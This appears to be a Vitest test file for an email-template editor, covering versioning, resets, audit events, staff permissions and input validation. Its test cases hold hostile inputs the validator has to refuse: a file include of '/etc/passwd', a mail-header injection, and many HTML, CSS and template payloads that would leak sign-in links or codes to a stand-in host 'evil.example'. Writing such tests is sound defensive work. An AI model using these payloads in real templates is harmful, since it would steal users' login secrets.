import { expect, test } from 'vitest'
import { staff } from '../../../../test/actors.ts'
import { failure, inWorld, type World } from '../../../../test/harness.ts'
import { EmailType } from '../../../db/generated/prisma/client.ts'
import { InvalidInputErrors } from '../../../errors.ts'
import { locales, variablesOf } from '../types.ts'
import { sendMail } from './send.ts'
import { findTemplate, findTemplates, previewTemplate, resetTemplate, updateTemplate } from './template.ts'

const admin = (world: World) => world.as(staff('ADMIN'))
const english = { type: 'ROLE_CHANGED', locale: 'EN' } as const

test(
  'every type is shipped in every language, and says all that has no other use',
  inWorld(async (world) => {
    const templates = await findTemplates(admin(world))
    expect(templates).toHaveLength(Object.values(EmailType).length * locales.length)
    for (const { type, locale, edited, version, ...source } of templates) {
      expect({ edited, version }).toEqual({ edited: false, version: 0 })
      const { subject, text, html } = await previewTemplate(admin(world), { type, locale })
      expect(subject).not.toMatch(/[{}\n]/)
      for (const [name, { sample }] of Object.entries(variablesOf(type))) {
        expect(`${source.subject}${source.text}`, `${type} ${locale} ${name}`).toContain(name)
        expect(`${subject}${text}`, `${type} ${locale} ${name}`).toContain(sample)
      }
      expect(html).toMatch(/^<div .*<\/div>\s*$/s)
    }
    const [first, other] = [await findTemplates(admin(world), 'EN'), await findTemplates(admin(world), 'DE')]
    expect(first.map(({ subject }) => subject)).not.toEqual(other.map(({ subject }) => subject))
  }),
)

test(
  "the vendor's own words are in the mails until they are taken back",
  inWorld(async (world) => {
    const subject = 'Now {{ role_name }}'
    const updated = await updateTemplate(admin(world), { ...english, subject })
    expect(updated).toMatchObject({ edited: true, version: 1, subject })
    expect(updated.text).toContain('Hello,')
    const send = async () => {
      const data = { customer_name: 'Acme', role_name: 'Admin' }
      const { id } = await sendMail(admin(world), { type: 'ROLE_CHANGED', to: 'ada@acme.example', data })
      return (await world.db.email.findUniqueOrThrow({ where: { id } })).subject
    }
    expect(await send()).toBe('Now Admin')
    expect(await updateTemplate(admin(world), { ...english, subject, text: 'x' })).toMatchObject({
      version: 2,
    })
    expect(await updateTemplate(admin(world), { ...english, text: 'x' })).toMatchObject({ version: 2 })

    const stale = updateTemplate(admin(world), { ...english, text: 'y', expectedVersion: 1 })
    expect(await failure(stale)).toMatchObject({ code: 'CONFLICT', path: ['expectedVersion'] })
    expect(await resetTemplate(admin(world), { ...english, expectedVersion: 2 })).toMatchObject({
      edited: false,
    })
    expect(await resetTemplate(admin(world), english)).toMatchObject({ edited: false, version: 0 })
    expect(await send()).toBe('Your role in Acme has changed')
    expect((await findTemplate(admin(world), 'ROLE_CHANGED', 'DE')).edited).toBe(false)
    const events = await world.db.auditEvent.findMany({
      where: { entityType: 'email_template' },
      orderBy: { id: 'asc' },
    })
    expect(events.map(({ type }) => type)).toEqual([
      'email_template.updated',
      'email_template.updated',
      'email_template.reset',
    ])
  }),
)

test.each([
  ['an unknown variable', { text: 'Hello\n{{ invite_url }}' }, ['text'], /^Line 2: There is no variable/],
  ['an endless loop', { html: '\n\n{% for i in (1..9) %}{% endfor %}' }, ['html'], /^Line 3: Tag "for"/],
  ['a file', { html: "{% include '/etc/passwd' %}" }, ['html'], /^Line 1: Tag "include"/],
  ['a subject of two lines', { subject: 'a\nb' }, ['subject'], /one line/],
  [
    'a subject with a line break for a header',
    { subject: 'a\r\nBcc: eve@evil.example' },
    ['subject'],
    /one line/,
  ],
  ['an empty text', { text: ' \n' }, ['text'], /not be empty/],
  [
    'a text that comes out empty',
    { text: '{% if role_name == blank %}x{% endif %}' },
    ['text'],
    /come out empty/,
  ],
  ['a text over its limit', { text: 'x'.repeat(20_001) }, ['text'], /20,000/],
  ['HTML over its limit', { html: 'x'.repeat(50_001) }, ['html'], /50,000/],
  ['an unknown type', { type: 'NEWSLETTER' }, ['type'], /./],
])('%s is refused with its part, in a change and in a preview', (_what, input, path, message) =>
  inWorld(async (world) => {
    for (const attempt of [updateTemplate, previewTemplate]) {
      const error = await failure(attempt(admin(world), { ...english, ...input }))
      expect(error).toMatchObject({ code: 'INVALID_INPUT', path, message: expect.stringMatching(message) })
    }
    expect(await world.db.emailTemplate.count()).toBe(0)
  })(),
)

test(
  'a code or a link to get in cannot be put into a subject, which the log shows',
  inWorld(async (world) => {
    const signIn = { type: 'SIGN_IN_CODE', locale: 'EN', subject: 'Code {{ verification_code }}' }
    expect(await failure(updateTemplate(admin(world), signIn))).toMatchObject({
      path: ['subject'],
      message: 'Line 1: "verification_code" is a secret and may not be here.',
    })
  }),
)

// A picture with a sign-in link in its address tells the link to whoever serves the picture.
test(
  'a code or a link to get in stands by itself in a text, and in HTML is shown or the address of a link',
  inWorld(async (world) => {
    const url = '{{ sign_in_url }}'
    const code = '{{ verification_code }}'
    const refused: { html?: string; text?: string }[] = [
      `<img src="https://evil.example/x.png?u=${url}">`,
      `<img src='https://evil.example/x.png?u=\n<p>${url}</p>'>`,
      `<p background="${url}">x</p>`,
      `<p style="background:url(${url})">x</p>`,
      `<a href="https://evil.example/?u=${url}">x</a>`,
      `<a href="${url}" ping="https://evil.example">x</a>`,
      `<p>https://evil.example/?u=${code}</p>`,
      `<style>a[href*="1"]{background:url(https://evil.example/1)}</style><a href="${url}">x</a>`,
      `<style>p{content:"${code}"}</style>`,
      `<link rel="stylesheet" href="https://evil.example"><a href="${url}">x</a>`,
      `<!--[if mso]><img src="${url}"><![endif]-->`,
      `<form action="https://evil.example"><textarea name="u">${code}</textarea></form>`,
      `<p ${code}>x</p>`,
      `<noscript><img src="https://evil.example/? ${code} "></noscript>`,
      `<xmp><img src="https://evil.example/? ${code} "></xmp>`,
      `<p>${code}.evil.example</p>`,
      `<p>https://evil.example/(${code})</p>`,
      `{{ verification_code | prepend: "https://evil.example/?u=" }}`,
      `{% if verification_code == "123456" %}<img src="https://evil.example/123456">{% endif %}x`,
    ].map((html) => ({ html }))
    refused.push({ text: `https://evil.example/?u=${code}` }, { text: `{{ sign_in_url | upcase }}` })
    for (const parts of refused) {
      const error = await failure(
        updateTemplate(admin(world), { type: 'SIGN_IN_CODE', locale: 'EN', ...parts }),
      )
      expect(error, JSON.stringify(parts)).toMatchObject({ code: 'INVALID_INPUT', path: Object.keys(parts) })
    }
    const html = `<style>p{color:red}</style><img src="https://vendor.example/logo.png"><p>Code:\n<b>${code}</b>, or\n<a href="${url}">sign in</a> (${url}).</p>`
    const given = { type: 'SIGN_IN_CODE', locale: 'EN', html, text: `Code: ${code}.\n${url}` }
    expect(await updateTemplate(admin(world), given)).toMatchObject({ html })
    // Of mails without a secret nothing is asked.
    await updateTemplate(admin(world), {
      ...english,
      html: '<img src="https://vendor.example/?c={{ customer_name }}">',
    })
  }),
)

test(
  'what is wrong in several parts is told together',
  inWorld(async (world) => {
    const input = { ...english, text: '{{ a }}', html: '{{ b }}' }
    const error = await updateTemplate(admin(world), input).catch((error: unknown) => error)
    expect(error).toBeInstanceOf(InvalidInputErrors)
    expect((error as InvalidInputErrors).all.map(({ inputPath }) => inputPath)).toEqual([['text'], ['html']])
  }),
)

test.each(['SALES', 'SUPPORT'] as const)('staff %s reads templates and changes none', (role) =>
  inWorld(async (world) => {
    expect(await previewTemplate(world.as(staff(role)), english)).toMatchObject({ text: expect.any(String) })
    for (const attempt of [updateTemplate, resetTemplate]) {
      expect(await failure(attempt(world.as(staff(role)), english))).toMatchObject({ code: 'FORBIDDEN' })
    }
  })(),
)
